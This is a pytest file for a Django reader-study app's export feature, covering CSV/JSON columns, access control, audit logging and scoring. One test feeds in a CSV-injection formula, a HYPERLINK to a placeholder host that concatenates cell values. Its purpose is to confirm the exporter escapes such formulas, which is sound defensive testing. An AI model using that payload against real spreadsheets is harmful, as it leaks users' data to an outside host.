"""Exports: columns and rows against the database, streamed downloads for coordinators only, the audit log."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from readerstudy.exports import csv_lines, read_columns
from readerstudy.models import Arm, AuditEntry, GroundTruth, Read, StudyQuestion, TruthValue
from tests.factories import user_by_relation
from tests.reading_setup import open_study_with_assignments
from tests.test_reading_api import annotation, event, full_report, post, submit, url

pytestmark = pytest.mark.django_db


@pytest.fixture
def read_study(demo_case_set, reader, coordinator, client):
    study, assignments = open_study_with_assignments(demo_case_set, reader, canaries=True, team=[coordinator])
    client.force_login(reader)
    full = assignments[Arm.FULL_REASONING]
    for assignment in assignments.values():  # in the session's order, so the last is full reasoning
        if assignment == full:
            post(client, url("api-events", full), {"events": [event("image_rendered", 0), event("input", 500)]})
            post(client, url("api-annotations", full), annotation(target="label", label="pneumonia"))
        submit(client, assignment, events=[event("submit", 4_000)], findings=["pleural-effusion"])
    return study, assignments


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def download(client, study, name, fmt):
    response = client.get(reverse("study-export", args=[study.pk, name, fmt]))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_the_reads_export_has_one_row_per_read_with_readable_values(read_study, client, coordinator):
    study, assignments = read_study
    client.force_login(coordinator)
    rows = rows_of(download(client, study, "reads", "csv"))
    assert len(rows) == Read.objects.filter(submitted_at__isnull=False).count() == 3
    assert list(rows[0]) == read_columns(study)
    by_arm = {row["arm"]: row for row in rows}
    assert set(by_arm) == {"Unaided", "AI labels only", "Full AI reasoning"}
    full = by_arm["Full AI reasoning"]
    read = Read.objects.get(assignment=assignments[Arm.FULL_REASONING])
    assert (full["reader"], full["session"], full["position"], full["case"]) == (
        "R01",
        "1",
        "3",
        assignments[Arm.FULL_REASONING].case.public_id,
    )
    assert (int(full["active_ms"]), int(full["total_ms"])) == (read.active_ms, read.total_ms) == (4_000, 4_000)
    assert (full["finding_pleural-effusion"], full["finding_edema"]) == ("1", "0")
    assert full["annotations_false_finding"] == "1" and full["annotations_missed_finding"] == "0"
    assert full["ai_labels_shown"] == "Consolidation; Pleural Effusion; Pneumonia"
    assert by_arm["Unaided"]["ai_labels_shown"] == ""
    assert full["rating_confidence"] == "3" and by_arm["Unaided"]["rating_trust"] == ""
    as_json = json.loads(download(client, study, "reads", "json"))
    assert [r["case"] for r in as_json] == [r["case"] for r in rows]


def test_events_and_annotations_have_their_own_files(read_study, client, coordinator):
    study, assignments = read_study
    client.force_login(coordinator)
    events = rows_of(download(client, study, "timing_events", "csv"))
    assert len(events) == 5 and {e["type"] for e in events} == {"image_rendered", "input", "submit"}
    notes = rows_of(download(client, study, "annotations", "csv"))
    assert [(n["target"], n["label"], n["category"], n["submitted"]) for n in notes] == [
        ("Predicted label", "Pneumonia", "False finding", "1")
    ]
    assert list(AuditEntry.objects.filter(action="exported").values_list("detail", flat=True)) == [
        "Downloaded annotations.csv.",
        "Downloaded timing_events.csv.",
    ]


@pytest.mark.parametrize("user,status", [("reader", 403), ("coordinator", 200), ("another team's coordinator", 404)])
def test_exports_are_for_the_studys_coordinators(client, read_study, coordinator, user, status):
    study, _ = read_study
    client.force_login(user_by_relation(user, coordinator))
    assert client.get(reverse("study-export", args=[study.pk, "reads", "csv"])).status_code == status
    assert client.get(reverse("study-export", args=[study.pk, "secrets", "csv"])).status_code in (403, 404)


def test_export_study_writes_the_same_files(read_study, client, coordinator, tmp_path):
    study, _ = read_study
    call_command("export_study", str(study.pk), "--out", str(tmp_path / "out"))
    client.force_login(coordinator)
    for name, fmt in [("reads", "csv"), ("reads", "json"), ("timing_events", "csv"), ("annotations", "csv")]:
        assert (tmp_path / "out" / f"{name}.{fmt}").read_bytes().decode() == download(client, study, name, fmt)


@pytest.mark.parametrize("blank, jaccard, correct_pneumothorax", [("negative", "0.5", "0"), ("unknown", "1.0", "")])
def test_reads_are_scored_under_the_studys_blank_rule(
    demo_case_set, reader, client, coordinator, blank, jaccard, correct_pneumothorax
):
    """The labels file says only Cardiomegaly = 1; the reader adds Pneumothorax."""
    study, assignments = open_study_with_assignments(
        demo_case_set, reader, arms=[Arm.UNAIDED], blank_truth=blank, team=[coordinator]
    )
    case = assignments[Arm.UNAIDED].case
    GroundTruth.objects.filter(case=case).update(value=TruthValue.BLANK)
    GroundTruth.objects.filter(case=case, label__slug="cardiomegaly").update(value=TruthValue.POSITIVE)
    client.force_login(reader)
    submit(client, assignments[Arm.UNAIDED], findings=["cardiomegaly", "pneumothorax"])
    client.force_login(coordinator)
    [row] = rows_of(download(client, study, "reads", "csv"))
    assert (row["blank_truth"], row["ground_truth"], row["jaccard"]) == (blank, "Cardiomegaly", jaccard)
    assert (row["correct_cardiomegaly"], row["correct_pneumothorax"]) == ("1", correct_pneumothorax)
    assert row["correct_no-finding"] == "1"  # derived negative, and not ticked
    assert (row["design"], row["previous_arm"]) == ("", "")  # assigned by hand, read once


def test_report_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    demo_case_set, reader, client, coordinator
):
    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], team=[coordinator])
    # A confidence scale from -2 to +2, so that a negative number reaches the export.
    StudyQuestion.objects.filter(study=study, key="confidence").update(scale_min=-2, scale_max=2)
    formula = '=HYPERLINK("http://x"&C2&D2)'
    client.force_login(reader)
    assignment = assignments[Arm.UNAIDED]
    submit(
        client, assignment, report_findings=formula, ratings={**full_report(assignment)["ratings"], "confidence": -2}
    )
    client.force_login(coordinator)
    [row] = rows_of(download(client, study, "reads", "csv"))
    assert (row["report_findings"], row["rating_confidence"]) == ("'" + formula, "-2")
    [raw] = json.loads(download(client, study, "reads", "json"))
    assert (raw["report_findings"], raw["rating_confidence"]) == (formula, -2)  # JSON is data, never opened as a sheet


def test_csv_cells_starting_a_formula_get_a_quote_and_numbers_stay_numbers():
    row = ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -3, -2.5, 0]
    [_, written] = csv.reader(io.StringIO("".join(csv_lines([f"c{i}" for i in range(len(row))], [row]))))
    assert written == ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "", "-3", "-2.5", "0"]
